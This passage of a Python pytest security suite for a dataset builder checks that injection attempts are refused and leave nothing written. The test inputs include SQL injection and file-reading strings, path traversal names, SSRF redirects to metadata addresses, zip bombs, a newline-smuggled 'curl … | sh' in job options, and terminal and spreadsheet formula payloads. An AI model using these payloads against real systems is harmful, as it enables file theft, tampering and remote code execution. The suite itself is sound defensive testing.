"""Security: each attack of issue 12 tried for real, so that a regression fails CI.

* `tol query` and every catalog read: only read statements run; no file outside the build is read, nothing
  is written anywhere, no extension is installed; the build directory is byte-identical afterwards.
* Settings that reach SQL (workflow, manifest, source options) cannot smuggle SQL in: refused at load
  time, or bound as values; nothing is written.
"""

from __future__ import annotations

import hashlib
import os
import shutil
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from conftest import run_cli
from tol_builder import catalog
from tol_builder.config import ConfigError, from_dict, load_workflow
from tol_builder.errors import TolError
from tol_builder.records import RECORD_SCHEMA, make_uid

INJECT = "x'); COPY (SELECT 42) TO '{target}'; --"


def tree_digest(root: Path) -> dict[str, str]:
    """Every file under root (catalog included) and its sha256: equal before and after = nothing written."""
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file()}


@pytest.fixture
def build(tmp_path) -> Path:
    out = tmp_path / "build"
    rows = [{"uid": make_uid("s", str(i)), "source": "s", "source_id": str(i), "media_uri": f"http://x/{i}.jpg",
             "genus": "Pica", "species": "hudsonia"} for i in range(3)]
    (out / "records" / "s").mkdir(parents=True)
    pq.write_table(pa.Table.from_pylist(rows, schema=RECORD_SCHEMA), out / "records" / "s" / "p0.parquet")
    catalog.register_parquet(out, "records", "records/*/*.parquet")
    (out / "workflow.json").write_text('{"name": "t"}')
    return out


def attacks(out: Path, outside: Path) -> dict[str, str]:
    """name -> SQL that would write, read outside the build, or reach the network."""
    return {
        "copy_outside": f"COPY (SELECT 1) TO '{outside / 'x.csv'}'",
        "copy_forged_records": f"COPY (SELECT * FROM records) TO '{out / 'records' / 's' / 'forged.parquet'}'",
        "copy_over_workflow": f"COPY (SELECT 1) TO '{out / 'workflow.json'}' (FORMAT csv)",
        "explain_analyze_copy": f"EXPLAIN ANALYZE COPY (SELECT 1) TO '{out / 'records' / 's' / 'y.parquet'}'",
        "read_csv_passwd": "SELECT * FROM read_csv('/etc/passwd')",
        "read_text_passwd": "SELECT * FROM read_text('/etc/passwd')",
        "glob_root": "SELECT * FROM glob('/*')",
        "attach_writable": f"ATTACH '{outside / 'w.db'}' (READ_ONLY false)",
        "attach_then_create": f"ATTACH '{outside / 'w2.db'}' AS w; CREATE TABLE w.t AS SELECT 1",
        "create_table": "CREATE TABLE x AS SELECT 1",
        "install": "INSTALL httpfs",
        "load": "LOAD httpfs",
        "set_external_access": "SELECT 1; SET enable_external_access = true",
        "pragma": "PRAGMA enable_profiling",
        "export": f"EXPORT DATABASE '{outside / 'dump'}'",
        "second_statement_writes": f"SELECT 1; COPY (SELECT 1) TO '{outside / 'y.csv'}'",
    }


def test_every_query_attack_is_refused_and_nothing_changes(build, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    before = tree_digest(build)
    for name, sql in attacks(build, outside).items():
        with pytest.raises(Exception) as e:
            catalog.query(build, sql)
        assert "refused" in str(e.value) or "disabled by configuration" in str(e.value), (name, str(e.value))
        assert tree_digest(build) == before, name
        assert not any(outside.iterdir()), name


def test_read_statements_still_work_and_a_moved_build_keeps_its_views(build, tmp_path):
    for sql in ("SELECT count(*) AS n FROM records", "WITH a AS (SELECT 1 AS n) SELECT * FROM a",
                "DESCRIBE records", "SHOW TABLES", "EXPLAIN SELECT * FROM records", "SUMMARIZE records",
                "FROM records LIMIT 1"):
        assert catalog.query(build, sql).num_rows >= 1, sql
    moved = tmp_path / "elsewhere" / "b"
    shutil.move(str(build), moved)
    assert catalog.query(moved, "SELECT count(*) AS n FROM records").column("n")[0].as_py() == 3


def test_a_query_binds_only_the_parquet_views_it_reaches(build, tmp_path):
    """Binding a parquet view reads every file footer under it (~10,000 media files at full size). In place,
    a read-only connection creates no view at all (the catalog's own views read the build's absolute paths and
    DuckDB binds a view only when a statement reads it). A moved build whose catalog another process holds
    open (so it cannot be re-pointed): the connection for a statement shadows only the views the statement
    names, directly or through the catalog's own views, and each query still sees what it names."""
    import subprocess
    import sys

    (build / "media" / "s").mkdir(parents=True)
    pq.write_table(pa.table({"uid": [make_uid("s", "0")], "status": ["ok"]}), build / "media" / "s" / "m0.parquet")
    catalog.register_parquet(build, "media", "media/*/*.parquet")
    con = catalog.connect(build, read_only=False)
    con.execute("CREATE OR REPLACE VIEW fetched AS SELECT r.uid FROM records r JOIN media m USING (uid) "
                "WHERE m.status = 'ok'")
    con.close()
    con = catalog.connect(build, read_only=True, for_sql="SELECT * FROM fetched")
    assert con.execute("SELECT count(*) FROM duckdb_views() WHERE temporary AND NOT internal").fetchone()[0] == 0
    assert con.execute("SELECT count(*) FROM fetched").fetchone()[0] == 1
    con.close()
    moved = tmp_path / "moved"
    shutil.move(str(build), moved)
    build = moved
    holder = subprocess.Popen([sys.executable, "-c", "import duckdb, sys; c = duckdb.connect(sys.argv[1], read_only=True); "
                               "print('open', flush=True); sys.stdin.read()", str(moved / "catalog.duckdb")],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "open"

    def temp_views(sql):
        con = catalog.connect(build, read_only=True, for_sql=sql)
        try:
            return {r[0] for r in con.execute("SELECT view_name FROM duckdb_views() WHERE temporary AND NOT internal").fetchall()}
        finally:
            con.close()

    assert temp_views("SELECT 1") == set()
    assert temp_views("SELECT count(*) FROM records") == {"records"}
    assert temp_views("SELECT * FROM fetched") == {"records", "media"}  # through the catalog's own view
    assert temp_views('SELECT count(*) FROM "MEDIA"') == {"media"}
    con = catalog.connect(build, read_only=True)  # no statement given: every view, as before
    assert {r[0] for r in con.execute("SELECT view_name FROM duckdb_views() WHERE temporary AND NOT internal").fetchall()} == {
        "records", "media"}
    con.close()
    assert catalog.query(build, "SELECT count(*) AS n FROM fetched").column("n")[0].as_py() == 1
    assert catalog.query(build, 'SELECT count(*) AS n FROM "Media"').column("n")[0].as_py() == 1
    assert catalog.query(build, "SELECT count(*) AS n FROM records WHERE uid IN (SELECT uid FROM media)"
                         ).column("n")[0].as_py() == 1
    holder.communicate("", timeout=30)
    assert temp_views("SELECT * FROM fetched") == set()  # released: re-pointed for every client


def test_the_cli_refuses_with_one_line_naming_the_statement_type(build, tmp_path):
    before = tree_digest(build)
    r = run_cli("query", str(build), f"EXPLAIN ANALYZE COPY (SELECT 1) TO '{build / 'records' / 's' / 'z.parquet'}'")
    assert r.returncode != 0
    lines = [line for line in r.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "EXPLAIN COPY" in lines[0] and "read-only" in lines[0]
    r = run_cli("query", str(build), "SELECT * FROM read_csv('/etc/passwd')")
    assert r.returncode != 0 and "root:" not in r.stdout + r.stderr
    assert tree_digest(build) == before


def test_blobs_print_as_their_size(build):
    r = run_cli("query", str(build), "SELECT '\\xFF\\xD8\\xFF\\xE0'::BLOB AS jpeg, 'ab'::BLOB AS other")
    assert r.returncode == 0 and "<jpeg 4 bytes>" in r.stdout and "<blob 2 bytes>" in r.stdout


# ---------------------------------------------------------------------------- settings that reach SQL
def _workflow(tmp: Path, extra: str) -> Path:
    (tmp / "m.toml").write_text('source = "table"\n[[files]]\nname = "t.csv"\nrole = "metadata"\n')
    wf = tmp / "wf.toml"
    wf.write_text(f'name = "t"\nout = "{tmp / "b"}"\n[[sources]]\nname = "table"\nmanifest = "m.toml"\n{extra}\n')
    return wf


def test_memory_limit_injection_is_refused_at_load(tmp_path):
    target = tmp_path / "pwned.csv"
    wf = _workflow(tmp_path, f'[taxonomy]\nmemory_limit = "4GB\'; COPY (SELECT 42) TO \'{target}\'; --"')
    with pytest.raises(ConfigError, match=r"taxonomy\.memory_limit"):
        load_workflow(wf)
    assert not target.exists() and not (tmp_path / "b").exists()
    load_workflow(_workflow(tmp_path, '[taxonomy]\nmemory_limit = "1.5GiB"'))  # the grammar's good values load
    with pytest.raises(ConfigError, match=r"shards\.memory_limit"):  # the shard plan's limit: the same rule
        load_workflow(_workflow(tmp_path, '[shards]\nmemory_limit = "8GB\'; SELECT 1; --"'))
    assert load_workflow(_workflow(tmp_path, '[shards]\nmemory_limit = "2GB"')).shards.memory_limit == "2GB"


def test_table_source_options_cannot_inject(tmp_path):
    from tol_builder.ingest import plan_task, read_task
    from tol_builder.sources.table import TableOptions

    target = tmp_path / "pwned.csv"
    with pytest.raises(ConfigError, match=r"options\.delimiter"):
        from_dict(TableOptions, {"delimiter": f"',x'); COPY (SELECT 42) TO '{target}'; --"}, "wf.toml",
                  prefix="sources[0].options")
    # a column name from the workflow is an identifier, quoted: a strange name is a missing column, no SQL
    (tmp_path / "t.csv").write_text("id,url\n1,http://x/1.jpg\n")
    (tmp_path / "m.toml").write_text('source = "table"\n[[files]]\nname = "t.csv"\nrole = "metadata"\nurl = "t.csv"\n')
    evil = 'id" FROM read_csv(\'/etc/passwd\')) --'
    source = {"name": "table", "manifest": str(tmp_path / "m.toml"), "id": "t",
              "options": {"columns": {"source_id": evil, "media_uri": "url"}}}
    common = dict(out=str(tmp_path / "b"), source=source, manifest_path=str(tmp_path / "m.toml"), threads=1,
                  config_file="")
    plan_task(**common)
    with pytest.raises(TolError, match="not in the table"):
        read_task(**common, partition={"key": "table-0000", "inputs": [["path", str(tmp_path / "t.csv")],
                                                                       ["format", ""], ["split", ""]]})
    assert not target.exists()


def test_kingdom_priority_and_source_ids_are_quoted_values(tmp_path):
    """Values spliced into generated SQL (lists of names) go through tol_builder.sql's one quoting helper."""
    import duckdb

    from tol_builder.sql import in_list, literal, literal_list

    target = tmp_path / "pwned.csv"
    evil = INJECT.format(target=target)
    con = duckdb.connect()
    assert con.sql(f"SELECT {literal(evil)}").fetchall()[0][0] == evil
    assert con.sql(f"SELECT {literal_list([evil, 'Animalia'])}").fetchall()[0][0] == [evil, "Animalia"]
    assert con.sql(f"SELECT {in_list('?', [evil])}", params=[evil]).fetchall()[0][0] is True
    assert not target.exists()
    with pytest.raises(ValueError):
        literal("a\x00b")


# ------------------------------------------------------------------------------- per-record attacks
from conftest_fetch import fault_server, jpeg_bytes, noise_image  # noqa: E402,F401  (fixture)


def _fetch(urls: list[str], local_media: bool = False, **cfg) -> dict[str, dict]:
    from tol_builder.config import FetchConfig
    from tol_builder.fetch.tasks import fetch_items

    c = FetchConfig(**{"attempts": 1, "backoff_base": 0.01, "max_side": 64, "max_redirects": 3,
                       "user_agent": "tol_builder/0.1 (tests)", **cfg})
    rows: dict[str, dict] = {}
    items = [{"uid": f"u{i}", "source": "t", "media_uri": u, "media_member": None} for i, u in enumerate(urls)]
    fetch_items(items, c, lambda r: rows.__setitem__(r["media_uri"], r), pass_no=0, local_media=local_media)
    return rows


def _nothing_of(row: dict, secret: bytes) -> None:
    """Nothing of the file a record pointed at is stored: no bytes, no hash, nothing in the message."""
    assert row["status"] == "failed" and row.get("jpeg") is None
    assert row.get("sha256") is None and row.get("md5") is None and row.get("pdq") is None
    assert secret.decode() not in (row.get("error_message") or "")


def test_local_paths_in_third_party_metadata_are_not_read(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"root:x:0:0:TOPSECRET")
    urls = [str(secret), secret.as_uri(), "file://localhost" + str(secret), "/etc/passwd", "file://otherhost/etc/passwd"]
    rows = _fetch(urls)
    for u in urls:
        assert rows[u]["error_class"] in ("local_path_refused", "unsupported_scheme"), (u, rows[u])
        _nothing_of(rows[u], b"TOPSECRET")
    # a source that declares local media reads them: a file that is not an image leaves nothing behind
    rows = _fetch([str(secret)], local_media=True)
    assert rows[str(secret)]["error_class"] == "not_image"
    _nothing_of(rows[str(secret)], b"TOPSECRET")
    assert "root:" not in rows[str(secret)]["error_message"]


def test_redirects_stay_on_the_web_and_off_private_addresses(fault_server):
    from tol_builder.urlpolicy import host_is_private, is_private_address, redirect_problem

    img = jpeg_bytes(noise_image(200, 150, seed=3))
    fault_server.images["a"] = img
    u = fault_server.url
    rows = _fetch([f"{u}/to?location=file:///etc/passwd", f"{u}/to?location=ftp://example.org/x",
                   f"{u}/to?location={u}/img/a"])
    assert rows[f"{u}/to?location=file:///etc/passwd"]["error_class"] == "bad_redirect"
    assert rows[f"{u}/to?location=ftp://example.org/x"]["error_class"] == "bad_redirect"
    assert rows[f"{u}/to?location={u}/img/a"]["status"] == "ok"  # loopback to loopback: the first host was one
    for address in ("127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "224.0.0.1",
                    "0.0.0.0", "::1", "fe80::1", "fc00::1", "::ffff:127.0.0.1"):
        assert is_private_address(address), address
    for address in ("93.184.216.34", "8.8.8.8", "2606:2800:220:1:248:1893:25c8:1946"):
        assert not is_private_address(address), address
    assert host_is_private("localhost") and host_is_private("127.0.0.1")
    # a public page redirecting to the cloud metadata address, to loopback, to a private LAN: refused
    for target in ("http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "http://10.0.0.5/"):
        problem = redirect_problem("https://images.example.org/a.jpg", target, original_private=False,
                                   target_private=True, allow_private=False)
        assert problem is not None and problem[0] == "private_redirect"
        assert redirect_problem("https://images.example.org/a.jpg", target, original_private=False,
                                target_private=True, allow_private=True) is None


def test_creators_opt_out_is_honoured(fault_server):
    img = jpeg_bytes(noise_image(200, 150, seed=4))
    fault_server.images["a"] = img
    u = fault_server.url
    opted = [f"{u}/robots/a?tag=noai", f"{u}/robots/a?tag=noimageai,%20nofollow", f"{u}/robots/a?tag=NOINDEX",
             f"{u}/robots/a?tag=tol_builder:%20noai", f"{u}/robots/a?tag=nofollow&tag=noimageindex"]
    kept = [f"{u}/robots/a?tag=otherbot:%20noai", f"{u}/robots/a?tag=nofollow", f"{u}/robots/a"]
    rows = _fetch(opted + kept)
    for url in opted:
        assert (rows[url]["status"], rows[url]["error_class"]) == ("failed", "opted_out"), url
        _nothing_of(rows[url], b"NOTHING")
    for url in kept:
        assert rows[url]["status"] == "ok", url
    rows = _fetch(opted[:1], disallowed_directives=[])  # the setting turns it off
    assert rows[opted[0]]["status"] == "ok"


def _bz2_bomb_zip(path: Path, lie: bool) -> dict:
    """A zip whose bzip2 member inflates to 400 MB; with `lie`, its central directory says 1,000 bytes."""
    import zipfile

    from tol_builder.fetch import archives

    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(zipfile.ZipInfo("bomb.jpg"), b"\0" * (400 << 20), compress_type=zipfile.ZIP_BZIP2)
    entry = next(r for b in archives.zip_index(path) for r in pa.Table.from_batches([b]).to_pylist())
    if lie:
        entry["size"] = 1000
    return entry


@pytest.mark.slow  # inflates a 400 MB bomb twice, once in a fresh process
def test_zip_members_inflate_under_the_cap(tmp_path):
    """A bzip2 member is inflated a bounded piece at a time: a lying central directory does not help a bomb
    (measured in a fresh process: its peak memory stays near the cap, not near 400 MB)."""
    import subprocess
    import sys
    import textwrap

    from tol_builder.fetch import archives

    entry = _bz2_bomb_zip(tmp_path / "b.zip", lie=True)
    with archives.ZipReader(tmp_path / "b.zip") as r:
        with pytest.raises(archives.MemberError) as e:
            r.read(entry, 5_000_000)
    assert e.value.error_class == "too_large"
    code = textwrap.dedent(f"""
        import resource, sys, zipfile
        sys.path.insert(0, {str(Path(__file__).parent)!r})
        from pathlib import Path
        from test_security import _bz2_bomb_zip
        from tol_builder.fetch import archives
        entry = _bz2_bomb_zip(Path({str(tmp_path / 'c.zip')!r}), lie=True)
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        try:
            archives.ZipReader(Path({str(tmp_path / 'c.zip')!r})).read(entry, 5_000_000)
        except archives.MemberError as e:
            print(e.error_class, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
    """)
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    kind, grew_mb = out.stdout.split()
    assert kind == "too_large" and int(grew_mb) < 60, out.stdout + out.stderr


def test_unknown_zip_methods_are_refused_by_name(tmp_path):
    import zipfile

    from tol_builder.fetch import archives

    with zipfile.ZipFile(tmp_path / "l.zip", "w") as zf:
        zf.writestr(zipfile.ZipInfo("x.jpg"), b"abc" * 100, compress_type=zipfile.ZIP_LZMA)
    entry = next(r for b in archives.zip_index(tmp_path / "l.zip") for r in pa.Table.from_batches([b]).to_pylist())
    with archives.ZipReader(tmp_path / "l.zip") as r:
        with pytest.raises(archives.MemberError, match="LZMA") as e:
            r.read(entry, 1_000_000)
    assert e.value.error_class == "unsupported_compression"


def test_the_guards_already_in_place_still_hold(fault_server, tmp_path):
    """Escaping and link members, bombs by pixels and by bytes, oversize responses, redirect loops."""
    import io
    import tarfile
    import zipfile

    from tol_builder.fetch import archives

    u = fault_server.url
    rows = _fetch([f"{u}/bomb.png", f"{u}/big", f"{u}/loop/a"], max_bytes=200_000)
    assert rows[f"{u}/bomb.png"]["error_class"] == "too_many_pixels"
    assert rows[f"{u}/big"]["error_class"] == "too_large"
    assert rows[f"{u}/loop/a"]["error_class"] == "too_many_redirects"
    # tar: '..', absolute and link members are refused, never read
    tpath = tmp_path / "t.tar"
    with tarfile.open(tpath, "w") as tf:
        for name in ("../evil.jpg", "/etc/evil.jpg", "ok/fine.jpg"):
            info = tarfile.TarInfo(name)
            info.size = 3
            tf.addfile(info, io.BytesIO(b"abc"))
        link = tarfile.TarInfo("ok/link.jpg")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tf.addfile(link)
    refused = []
    got = {m.raw_name: (data, err and err.error_class) for m, data, err in archives.iter_tar(
        tpath, lambda m: True, 1000, on_refused=lambda m, why: refused.append(m.raw_name))}
    assert got["ok/fine.jpg"] == (b"abc", None)
    assert all(got[n] == (None, "unsafe_member") for n in ("../evil.jpg", "/etc/evil.jpg", "ok/link.jpg"))
    assert sorted(refused) == sorted(["../evil.jpg", "/etc/evil.jpg", "ok/link.jpg"])
    # zip: an escaping member path is refused; a member over the cap by its declared size too
    zpath = tmp_path / "z.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        zf.writestr("../../evil.jpg", b"abc")
        zf.writestr("big.jpg", b"x" * 5000, compress_type=zipfile.ZIP_DEFLATED)
    entries = {r["raw_name"]: r for b in archives.zip_index(zpath) for r in pa.Table.from_batches([b]).to_pylist()}
    with archives.ZipReader(zpath) as r:
        for name, kind in (("../../evil.jpg", "unsafe_member"), ("big.jpg", "too_large")):
            with pytest.raises(archives.MemberError) as e:
                r.read(entries[name], 1000)
            assert e.value.error_class == kind, name


# ------------------------------------------------------------------------------------- issue 18 item 1
def test_manifest_file_names_cannot_write_or_read_outside_the_cache(fault_server, tmp_path):
    """A manifest's file `name` is a path in the cache (`cache / name`): '/abs/x.csv' wrote the download to that
    path, '../../x' climbed out of the cache, an existing absolute path was read as metadata unchecked. Now
    refused at load naming the file and the key, before any request; and every write under a cache is
    checked to resolve inside it (for a manifest built in code, an authority's files and members too)."""
    import json
    import os

    from tol_builder.errors import InputError
    from tol_builder.ingest import plan_task
    from tol_builder.manifest import Manifest, ManifestFile, load_manifest
    from tol_builder.sources.table import TableOptions, TableSource
    from tol_builder.taxonomy import authorities

    fault_server.files["t.csv"] = b"id,url\n1,http://x/1.jpg\n"
    url = f"{fault_server.url}/file/t.csv"
    outside, out = tmp_path / "outside", tmp_path / "deep" / "build"
    outside.mkdir()
    cache = out / "cache" / "ingest" / "t"  # the table source's cache (ingest.make_source)
    secret = outside / "secret.csv"
    secret.write_bytes(b"id,url\nTOPSECRET,http://x/s.jpg\n")
    before = secret.read_bytes()
    evil = {
        "absolute": str(outside / "x.csv"),  # wrote the downloaded bytes there
        "absolute_existing": str(secret),  # was read as metadata, with no checksum
        "climbing": os.path.relpath(outside / "climbed" / "y.csv", cache),  # ../../../../outside/climbed/y.csv
        "subfolder": "sub/x.csv", "backslash": "..\\x.csv", "dot": ".", "dotdot": "..", "empty": "",
        "nul": "x\x00.csv", "newline": "x\n.csv", "escape": "x\x1b[2J.csv", "drive": "C:x.csv",
    }
    for what, name in evil.items():
        manifest = tmp_path / f"{what}.toml"
        manifest.write_text(f'source = "table"\n[[files]]\nname = {json.dumps(name)}\nrole = "metadata"\n'
                            f'url = "{url}"\n')
        with pytest.raises(ConfigError) as e:
            load_manifest(manifest)
        assert str(manifest) in str(e.value) and e.value.key == "files[0].name", (what, str(e.value))
        with pytest.raises(ConfigError, match=r"files\[0\]\.name"):  # the ingest plan task loads it the same way
            plan_task(out=str(out), source={"name": "table", "manifest": str(manifest), "id": "t", "options": {}},
                      manifest_path=str(manifest), threads=1, config_file="")
    assert sorted(p.name for p in outside.rglob("*")) == ["secret.csv"] and secret.read_bytes() == before
    assert fault_server.paths_requested() == []  # refused before any download
    # the same file, named plainly, is retrieved into the cache
    manifest = tmp_path / "good.toml"
    manifest.write_text(f'source = "table"\n[[files]]\nname = "t.csv"\nrole = "metadata"\nurl = "{url}"\n')
    plan_task(out=str(out), source={"name": "table", "manifest": str(manifest), "id": "t", "options": {}},
              manifest_path=str(manifest), threads=1, config_file="")
    assert (cache / "t.csv").read_bytes() == fault_server.files["t.csv"]

    # a manifest built in code skips load_manifest: the retrieve site checks the path itself
    from tol_builder.fileio import inside

    m = Manifest(source="table", files=[ManifestFile(name=evil["climbing"], role="metadata", url=url)],
                 path=tmp_path / "code.toml")
    with pytest.raises(InputError, match="outside"):
        TableSource(m, TableOptions(), cache, source_id="t").plan()
    assert not (outside / "climbed").exists()
    (cache / "link").symlink_to(outside, target_is_directory=True)  # a link in the cache leading out
    with pytest.raises(InputError, match="outside"):
        inside(cache, "link", "z.csv")
    assert inside(cache, "t.csv") == cache / "t.csv"

    # taxonomic authorities: the manifest's name and its files' names become cache/downloads/<name>/<file>
    auth_dir = tmp_path / "authorities"
    auth_dir.mkdir()
    (auth_dir / "a.csv").write_text("x\n")
    for key, name, file_name in (("name", "../../escape", "a.csv"), ("files[0].name", "itis", str(outside / "a.csv"))):
        p = auth_dir / "itis.toml"
        p.write_text(f'name = {json.dumps(name)}\nformat = "itis_chains"\n[[files]]\nrole = "chains"\n'
                     f'name = {json.dumps(file_name)}\nurl = "a.csv"\n')
        with pytest.raises(ConfigError) as e:
            authorities.load_manifest(p)
        assert str(p) in str(e.value) and e.value.key == key, str(e.value)
        if key == "name":
            with pytest.raises(ConfigError, match="key 'name'"):
                authorities.discover(auth_dir)
    m = authorities.AuthorityManifest(name="../..", format="itis_chains", path=auth_dir / "itis.toml",
                                      files=[authorities.AuthorityFile(role="chains", name="a.csv", url="a.csv")])
    with pytest.raises(InputError, match="outside"):
        authorities.local_files(m, tmp_path / "tcache" / "taxonomy")
    assert not (tmp_path / "tcache" / "downloads").exists()


# ------------------------------------------------------------------------------------- issue 18 item 6
def test_jobqueue_options_with_control_characters_are_refused_at_load(tmp_path):
    """dask-jobqueue writes [cluster] jobqueue_options into the batch script as they are: a newline in job_name
    or queue made a line of its own, a command (and Slurm stops reading #SBATCH after the first command).
    Refused at load, every such key named; the options themselves still pass as written."""
    from tol_builder.cluster import jobqueue_cluster
    from tol_builder.config import ClusterConfig

    marker = tmp_path / "pwned"
    wf = _workflow(tmp_path, "[cluster]\njobqueue = \"slurm\"\n[cluster.jobqueue_options]\n"
                   f'job_name = "tol\\ntouch {marker} #"\nqueue = "gpu\\rcurl http://127.0.0.1:1/x | sh #"\n'
                   'walltime = "01:00:00"\njob_extra_directives = ["--constraint=avx2", "--comment=a\\u001bb"]\n'
                   'scheduler_options = { "interface\\n" = "lo" }\n')
    with pytest.raises(ConfigError) as e:
        load_workflow(wf)
    keys = {k for k, _, _ in e.value.problems}
    assert str(wf) in str(e.value) and "control characters" in str(e.value)
    assert keys == {f"cluster.jobqueue_options.{k}" for k in (
        "job_name", "queue", "job_extra_directives[1]", "scheduler_options.interface\\n")}
    assert not marker.exists()
    # a ClusterConfig built in code is checked again before any job script is made
    with pytest.raises(ConfigError, match=r"cluster\.jobqueue_options\.job_name"):
        jobqueue_cluster(ClusterConfig(jobqueue="slurm", jobqueue_options={"job_name": "tol\necho hi"}))
    # plain values load and reach the script as written
    ok = load_workflow(_workflow(tmp_path, "[cluster]\njobqueue = \"slurm\"\n[cluster.jobqueue_options]\n"
                                 'job_name = "tol-build"\nqueue = "gpu"\njob_extra_directives = ["--comment=a b"]\n'))
    cluster = jobqueue_cluster(ok.cluster)
    try:
        script = cluster.job_script()
    finally:
        cluster.close()
    assert "#SBATCH -J tol-build" in script and "#SBATCH -p gpu" in script and "#SBATCH --comment=a b" in script


# ------------------------------------------------------------------------------- issue 18: terminal and CSV
HOSTILE_NAMES = ["[/]", "[link=http://evil.example/]click[/link]", "Aus bus [sic]",
                 "red\x1b[31m\x1b]8;;http://evil.example/\x07x", "\u202eevil",
                 "=HYPERLINK(\"http://evil.example/\",\"x\")", "@SUM(1+1)", "+1", "-2+3", "\tx", "\rx", "plain"]


def _hostile_build(out: Path) -> Path:
    rows = [{"uid": make_uid("s", str(i)), "source": "s", "source_id": f"{i:02d}", "media_uri": f"http://x/{i}.jpg",
             "genus": "Pica", "common_name": name} for i, name in enumerate(HOSTILE_NAMES)]
    (out / "records" / "s").mkdir(parents=True)
    pq.write_table(pa.Table.from_pylist(rows, schema=RECORD_SCHEMA), out / "records" / "s" / "p0.parquet")
    catalog.register_parquet(out, "records", "records/*/*.parquet")
    return out


# issue 18 item 5
def test_third_party_text_reaches_the_terminal_as_text(tmp_path):
    """Common names with markup and escape sequences, through `tol query` (cells, a header, an error),
    `tol status` and a stage's progress bar, on a terminal (FORCE_COLOR): printed as they are, never crashing,
    never a hyperlink, never a raw ESC from the data."""
    import io

    from rich.console import Console

    from tol_builder.runner import Runner, Task

    build = _hostile_build(tmp_path / "b")
    tty = {"FORCE_COLOR": "1", "COLUMNS": "250", "TERM": "xterm-256color"}
    r = run_cli("query", str(build), 'SELECT common_name AS "[bold]hdr[/]" FROM records ORDER BY source_id', env=tty)
    assert r.returncode == 0, r.stderr
    for shown in ("[/]", "[link=http://evil.example/]click[/link]", "Aus bus [sic]", "[bold]hdr[/]",
                  "red\\x1b[31m\\x1b]8;;http://evil.example/\\x07x", "\\u202eevil"):
        assert shown in r.stdout, shown
    assert "\x1b]8;" not in r.stdout and "\x1b[31m" not in r.stdout and "\u202e" not in r.stdout  # nothing raw
    r = run_cli("query", str(build), 'SELECT * FROM "[/]no\x1b[2Jsuch"', env=tty)  # DuckDB's error quotes it
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
    assert "[/]no\\x1b[2Jsuch" in r.stderr.splitlines()[0] and "\x1b[2J" not in r.stderr
    # tol status: stage folders and counter names come from files of the build
    (build / "_markers" / "[red]st\x1b[2Jage").mkdir(parents=True)
    (build / "_markers" / "[red]st\x1b[2Jage" / "t.json").write_text(
        '{"counters": {"[link=http://evil.example/]n[/link]\\u001b[2J": 3}}')
    r = run_cli("status", str(build), env=tty)
    assert r.returncode == 0, r.stderr
    out = " ".join(r.stdout.split())
    assert "[red]st\\x1b[2Jage" in out and "[link=http://evil.example/]n[/link]\\x1b[2J=3" in out
    assert "\x1b[2J" not in r.stdout + r.stderr and "\x1b]8;" not in r.stdout
    # a stage's progress description
    screen = io.StringIO()
    console = Console(file=screen, force_terminal=True, width=200)
    Runner(tmp_path / "run", None, progress=True, console=console).run("[/]p\x1b[2Jq", [Task("k", dict)])
    assert "[/]p\\x1b[2Jq" in screen.getvalue() and "\x1b[2J" not in screen.getvalue()


# issue 18 item 7a
def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(tmp_path):
    import csv
    import io
    import subprocess
    import sys

    from tol_builder.shards.publish import LICENCE_COLUMNS, write_licences
    from tol_builder.shards.write import index_path

    build = _hostile_build(tmp_path / "b")
    sql = "SELECT common_name, -12.5::DOUBLE AS lon, -3 AS n FROM records ORDER BY source_id"

    def csv_rows(*options: str) -> list[list[str]]:  # bytes as written (run_cli's text mode turns \r into \n)
        r = subprocess.run([sys.executable, "-m", "tol_builder.cli", "query", str(build), sql, *options],
                           capture_output=True, timeout=300)
        assert r.returncode == 0, r.stderr
        return list(csv.reader(io.StringIO(r.stdout.decode(), newline="")))

    rows = csv_rows("--format", "csv")
    assert rows[0] == ["common_name", "lon", "n"]
    expected = {name: ("'" + name if name[0] in "=+-@\t\r" else name) for name in HOSTILE_NAMES}
    assert [row[0] for row in rows[1:]] == [expected[n] for n in HOSTILE_NAMES]
    assert all(row[1:] == ["-12.5", "-3"] for row in rows[1:])  # numbers stay numbers
    assert [row[0] for row in csv_rows("--format", "csv", "--raw")[1:]] == HOSTILE_NAMES
    assert "--raw" in " ".join(run_cli("query", "--help", env={"COLUMNS": "200"}).stdout.split())
    # licenses.csv: the shards' images (member index) with their licence columns, written by DuckDB
    (build / "selection").mkdir()
    uids = [make_uid("s", str(i)) for i in range(len(HOSTILE_NAMES))]
    pq.write_table(pa.table({"uid": uids, **{c: [f"{c}:{i}" if i % 2 else name for i, name in enumerate(HOSTILE_NAMES)]
                                             for c in LICENCE_COLUMNS if c != "uid"}}),
                   build / "selection" / "samples.parquet")
    index_path(build, "train", 0).parent.mkdir(parents=True)
    pq.write_table(pa.table({"uid": uids, "key": ["json"] * len(uids)}), index_path(build, "train", 0))
    write_licences(build)
    (licences,) = build.rglob("licenses.csv")
    with open(licences, newline="") as f:
        got = list(csv.DictReader(f))
    assert len(got) == len(uids)
    by_uid = {row["uid"]: row for row in got}
    for i, (uid, name) in enumerate(zip(uids, HOSTILE_NAMES)):
        want = f"licence:{i}" if i % 2 else expected[name]
        assert by_uid[uid]["licence"] == want
        assert by_uid[uid]["rights_holder"] == want.replace("licence", "rights_holder")


# issue 18 item 7c
def test_control_and_bidi_characters_are_stripped_from_texts_and_counted(tmp_path):
    import json

    from tol_builder.shards.card import stripped_line
    from tol_builder.shards.write import index_path
    from tol_builder.text import taxon_texts

